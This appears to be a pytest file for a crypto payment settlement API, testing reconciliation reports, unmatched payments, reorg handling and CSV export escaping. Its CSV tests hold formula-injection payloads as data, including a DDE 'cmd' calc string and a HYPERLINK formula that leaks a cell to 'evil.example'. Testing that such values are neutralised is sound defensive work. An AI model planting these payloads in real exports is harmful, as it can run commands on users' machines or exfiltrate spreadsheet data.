"""Reconciliation that balances: the router's fee and the net per invoice, the payments no
invoice matched (``GET /v1/payments``), and marking an invalid invoice invalid again as a no-op.

Payments are written as the indexer writes them (tests/settlement pays on a real chain)."""

from __future__ import annotations

import csv
import io
import os
import re
import uuid
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa
from sqlmodel import Session, select

from api.settlement import repository as settlement_repo
from api.settlement.models import Invoice, InvoiceState, MerchantAccount, Payment, PaymentState
from tests.api.conftest import auth
from tests.api.test_resources_crm import Tenant, World
from tests.api.test_resources_invoices import CHAIN_ID, create, deployment, subscribe, world

__all__ = ["deployment", "world"]  # fixtures

PERIOD = {"start": "2000-01-01T00:00:00Z", "end": "2999-01-01T00:00:00Z"}


def account_address(w: World, tenant: Tenant) -> str:
    with Session(w.engine) as session:
        stmt = select(MerchantAccount).where(MerchantAccount.merchant_id == int(tenant.id))
        return session.exec(stmt).one().address


def record_payment(
    w: World,
    *,
    merchant_address: str,
    invoice_id: str | None = None,
    number: int = 1,
    amount: int = 2_500_000,
    fee: int = 0,
    state: PaymentState = PaymentState.CONFIRMED,
    seen_at: datetime | None = None,
) -> int:
    """A ``PaymentSettled`` log as the indexer stores it (and, matched, its invoice's money)."""
    payment = Payment(
        invoice_id=invoice_id,
        merchant_address=merchant_address,
        invoice_number=number,
        chain_id=CHAIN_ID,
        tx_hash="0x" + os.urandom(32).hex(),
        log_index=0,
        block_number=1,
        block_hash="0x" + os.urandom(32).hex(),
        payer="0x" + "44" * 20,
        token="0x" + "55" * 20,
        amount=amount,
        fee=fee,
        state=state,
        seen_at=seen_at or w.clock.now(),
    )
    with Session(w.engine, expire_on_commit=False) as session, session.begin():
        session.add(payment)
        if invoice_id is not None:
            invoice = session.get(Invoice, invoice_id)
            assert invoice is not None
            invoice.paid_amount += amount
            invoice.state = InvoiceState.SETTLED
            session.add(invoice)
    assert payment.id is not None
    return payment.id


class TestFeeAndNet:
    def test_each_row_shows_the_fee_taken_and_what_the_merchant_kept(self, world: World) -> None:
        h = auth(world.a.merchant)
        paid = create(world, world.a.merchant, amount="2500000", fee="100000").json()
        unpaid = create(world, world.a.merchant, amount="700000", fee="7000").json()
        address = account_address(world, world.a)
        record_payment(world, merchant_address=address, invoice_id=paid["id"], fee=100_000)
        record_payment(  # reorged away: neither paid nor a fee any more
            world,
            merchant_address=address,
            invoice_id=unpaid["id"],
            amount=700_000,
            fee=7_000,
            state=PaymentState.REORGED,
        )
        with Session(world.engine) as session, session.begin():
            invoice = session.get(Invoice, paid["id"])
            assert invoice is not None
            invoice.refunded_amount = 500_000
            session.add(invoice)
            rolled_back = session.get(Invoice, unpaid["id"])
            assert rolled_back is not None
            rolled_back.paid_amount, rolled_back.state = 0, InvoiceState.NEW
            session.add(rolled_back)

        rows = world.client.get("/v1/reconciliation", params=PERIOD, headers=h).json()["data"]
        by_id = {r["invoice_id"]: r for r in rows}
        figures = ("paid_amount", "fee", "refunded_amount", "net_amount")
        assert tuple(by_id[paid["id"]][k] for k in figures) == (
            "2500000",
            "100000",
            "500000",
            "1900000",
        )
        assert tuple(by_id[unpaid["id"]][k] for k in figures) == ("0", "0", "0", "0")

        text = world.client.get(
            "/v1/reconciliation", params={**PERIOD, "format": "csv"}, headers=h
        ).text
        table = {r["invoice_id"]: r for r in csv.DictReader(io.StringIO(text))}
        assert (table[paid["id"]]["fee"], table[paid["id"]]["net_amount"]) == (
            "100000",
            "1900000",
        )
        # the totals balance: what was paid = fees + refunds + what the merchant kept
        assert sum(int(r["paid_amount"]) for r in table.values()) == sum(
            int(r["fee"]) + int(r["refunded_amount"]) + int(r["net_amount"]) for r in table.values()
        )


class TestUnmatchedPayments:
    def test_each_merchant_lists_the_payments_its_address_received(self, world: World) -> None:
        a, b = world.a, world.b
        mine = record_payment(
            world,
            merchant_address=account_address(world, a).lower(),  # compared without case
            number=999,
            seen_at=datetime(2026, 1, 1, tzinfo=UTC),
        )
        invoice = create(world, a.merchant).json()
        matched = record_payment(
            world, merchant_address=account_address(world, a), invoice_id=invoice["id"]
        )
        theirs = record_payment(world, merchant_address=account_address(world, b), number=7)
        nobodys = record_payment(world, merchant_address="0x" + os.urandom(20).hex())

        def ids(key: str, **params: object) -> list[int]:
            r = world.client.get("/v1/payments", params=params, headers=auth(key))
            assert r.status_code == 200, r.text
            return [p["id"] for p in r.json()["data"]]

        assert ids(a.merchant, matched="false") == [mine]
        assert ids(a.support, matched="true") == [matched]
        assert ids(a.merchant) == [matched, mine]  # newest first
        assert ids(b.merchant, matched="false") == [theirs]
        assert ids(world.admin, matched="false", merchant_id=a.id) == [mine]
        assert nobodys in ids(world.admin, matched="false", limit=100)

        r = world.client.get(
            "/v1/payments", params={"matched": "false"}, headers=auth(a.merchant)
        ).json()["data"][0]
        assert (r["invoice_id"], r["invoice_number"], r["amount"]) == (None, "999", "2500000")

        first = world.client.get("/v1/payments", params={"limit": 1}, headers=auth(a.merchant))
        assert first.json()["has_more"] is True
        rest = ids(a.merchant, limit=1, starting_after=first.json()["data"][0]["id"])
        assert rest == [mine]
        r = world.client.get(
            "/v1/payments", params={"starting_after": theirs}, headers=auth(a.merchant)
        )
        assert r.status_code == 404
        assert r.json()["error"]["param"] == "starting_after"


class TestMarkingInvalidTwice:
    def test_answers_the_invoice_as_it_is_and_records_nothing(self, world: World) -> None:
        h = auth(world.a.merchant)
        subscribe(world, world.a.merchant, ["invoice.invalid"])
        invoice = create(world, world.a.merchant).json()
        first = world.client.post(
            f"/v1/invoices/{invoice['id']}/mark", json={"status": "invalid"}, headers=h
        )
        world.clock.advance(minutes=1)
        again = world.client.post(
            f"/v1/invoices/{invoice['id']}/mark",
            json={"status": "invalid"},
            headers=auth(world.a.merchant, **{"Idempotency-Key": uuid.uuid4().hex}),
        )
        assert (first.status_code, again.status_code) == (200, 200)
        assert again.json() == first.json()
        audit = world.client.get(
            "/v1/audit_log",
            params={"object_type": "invoice", "object_id": invoice["id"]},
            headers=h,
        ).json()["data"]
        assert [e["action"] for e in audit] == ["invoice.mark_invalid"]
        with world.engine.connect() as conn:
            sent = conn.execute(
                sa.text(
                    "SELECT count(*) FROM api_webhook_deliveries"
                    " WHERE event_type = 'invoice.invalid' AND merchant_id = :m"
                ),
                {"m": world.a.id},
            ).scalar_one()
        assert sent == 1


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("-1", "-1"),  # a net amount after a full refund of an invoice with a fee
        ("-12.5", "-12.5"),
        ("25000", "25000"),
        ("-1+2", "'-1+2"),
        ('=HYPERLINK("x")', '\'=HYPERLINK("x")'),
        ("+44 20 7183 8750", "'+44 20 7183 8750"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-", "'-"),
        (None, ""),
        # where a ';' or tab reader starts a cell (a ',' file's quotes do not hold there)
        ("a;=cmd|' /C calc'!A0", "a;'=cmd|' /C calc'!A0"),
        ('a;"=1+1"', 'a;"\'=1+1"'),
        ("a\t@SUM(A1)", "a\t'@SUM(A1)"),
        ("a\r\n+1", "a\r\n'+1"),
        (";\t=x", ";'\t'=x"),
        ("a=b;c-d", "a=b;c-d"),
    ],
)
def test_csv_cells_quote_formulas_not_numbers(value, cell):
    from api.routes.reports import _cell

    assert _cell(value) == cell


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_the_csv_starts_a_formula_in_any_locale(world: World, delimiter: str) -> None:
    """A spreadsheet whose list separator is ';' opens a ',' file by splitting at each ';',
    and its quotes no longer line up: an order id's '=...' after a ';' began a cell there."""
    order_id = 'ord;=HYPERLINK("http://evil.example/?"&A1);"@SUM(1)"\t+cmd'
    assert create(world, world.a.merchant, order_id=order_id).status_code == 200
    h = auth(world.a.merchant)
    rows = world.client.get("/v1/reconciliation", params=PERIOD, headers=h).json()["data"]
    assert order_id in {r["order_id"] for r in rows}  # JSON keeps the exact text
    text = world.client.get(
        "/v1/reconciliation", params={**PERIOD, "format": "csv"}, headers=h
    ).text
    for reader in (
        csv.reader(io.StringIO(text), delimiter=delimiter),  # honours quotes
        ([field] for line in text.splitlines() for field in line.split(delimiter)),  # does not
    ):
        for row in reader:
            for field in row:
                cell = field.lstrip('"')
                if cell.startswith(FORMULA_START) and not re.fullmatch(r"-?[0-9.]+", cell):
                    raise AssertionError(f"{delimiter!r} reader starts a formula: {cell!r}")


class TestFollowUpColumn:
    def test_a_sale_mined_again_after_a_reorg_shows_its_live_survey(self, world: World) -> None:
        """A reorg cancels the sale's unsent survey; mined again, the payment gets another.
        The row showed the oldest follow-up of the invoice: the cancelled one, and none of the
        live one's answer."""
        from api.db import session_factory, session_scope
        from crm import FollowUpPolicyCreate, followups
        from crm.followups import policies as followups_policies
        from tests.api.test_resources_crm import grant, new_contact

        invoice = create(world, world.a.merchant, amount="2500000").json()
        contact = new_contact(world, world.a)
        grant(world, world.a, contact["id"])
        mid, now = int(world.a.id), world.clock.now()
        with session_scope(session_factory(world.engine)) as s:
            policy = FollowUpPolicyCreate(delay_minutes=60, frequency_cap_days=0)
            followups_policies.create_policy(s, mid, policy, actor="test", clock=world.clock)
            (first,) = followups.schedule_for_payment(
                s, mid, contact["id"], "pay_1", invoice["id"], 1, "tUSD", now, world.clock
            )
            assert followups.cancel_for_payment(s, mid, "pay_1", "reorg", world.clock) == 1
            (second,) = followups.schedule_for_payment(
                s, mid, contact["id"], "pay_2", invoice["id"], 1, "tUSD", now, world.clock
            )
            second_id = second.id
        params = {"start": "2000-01-01T00:00:00+14:00", "end": "2999-01-01T00:00:00+14:00"}
        report = world.client.get(
            "/v1/reconciliation", params=params, headers=auth(world.a.merchant)
        ).json()
        (row,) = [r for r in report["data"] if r["invoice_id"] == invoice["id"]]
        assert (row["followup_id"], row["followup_state"]) == (second_id, "scheduled")
        assert first.id != second_id
        with session_scope(session_factory(world.engine)) as s:  # nothing left due for others
            followups.cancel_for_payment(s, mid, "pay_2", "test over", world.clock)
        # the period comes back in UTC, as every timestamp the API returns
        assert (report["start"], report["end"]) == ("1999-12-31T10:00:00Z", "2998-12-31T10:00:00Z")


def test_a_row_adds_up_while_the_indexer_commits(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The row's paid and refunded amounts come from the invoice, its fee came from its
    payments, read by a second statement: an indexer step committing between the two (on
    PostgreSQL each statement sees what is committed when it starts) showed the fee of a
    payment the paid amount did not hold (paid 0, fee 250000, net -250000)."""
    invoice = create(world, world.a.merchant, amount="2500000", fee="250000").json()
    address = account_address(world, world.a)
    original = settlement_repo.payments_for_invoices

    def indexer_commits_meanwhile(session, ids):  # type: ignore[no-untyped-def]
        monkeypatch.setattr(settlement_repo, "payments_for_invoices", original)
        record_payment(world, merchant_address=address, invoice_id=invoice["id"], fee=250_000)
        return original(session, ids)

    monkeypatch.setattr(settlement_repo, "payments_for_invoices", indexer_commits_meanwhile)
    r = world.client.get("/v1/reconciliation", params=PERIOD, headers=auth(world.a.merchant))
    assert r.status_code == 200, r.text
    (row,) = [x for x in r.json()["data"] if x["invoice_id"] == invoice["id"]]
    paid, fee, refunded = (int(row[k]) for k in ("paid_amount", "fee", "refunded_amount"))
    assert paid == fee + refunded + int(row["net_amount"])
    assert (paid, fee) in {(0, 0), (2_500_000, 250_000)}


def test_a_reorged_payment_has_no_confirmations(world: World) -> None:
    """It is in no block of the chain; it showed as many confirmations as a live payment at
    its old height."""
    address = account_address(world, world.a)
    record_payment(world, merchant_address=address, number=77, state=PaymentState.REORGED)
    r = world.client.get("/v1/payments", headers=auth(world.a.merchant))
    assert r.status_code == 200, r.text
    (payment,) = r.json()["data"]
    assert (payment["state"], payment["confirmations"]) == ("reorged", None)
